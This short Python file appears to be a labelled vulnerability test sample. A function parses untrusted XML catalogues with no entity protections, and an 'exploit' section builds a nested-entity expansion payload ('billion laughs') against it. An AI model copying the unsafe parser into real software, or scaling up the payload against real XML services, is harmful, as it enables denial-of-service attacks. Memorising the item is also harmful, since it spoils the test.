"""Read the name out of a catalogue that a supplier sends."""

from xml.etree import ElementTree


def catalogue_name(document: bytes) -> str:
    root = ElementTree.fromstring(document)  # expect: AV0412
    return root.findtext("name", default="")


# --- exploit ---
DECLARATIONS = b"".join(
    b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 5)
)
DOCUMENT = (
    b'<!DOCTYPE catalogue [<!ENTITY e0 "ha">'
    + DECLARATIONS
    + b"]><catalogue><name>&e4;</name></catalogue>"
)

if __name__ == "__main__":
    print("bytes in:", len(DOCUMENT), "characters out:", len(catalogue_name(DOCUMENT)))
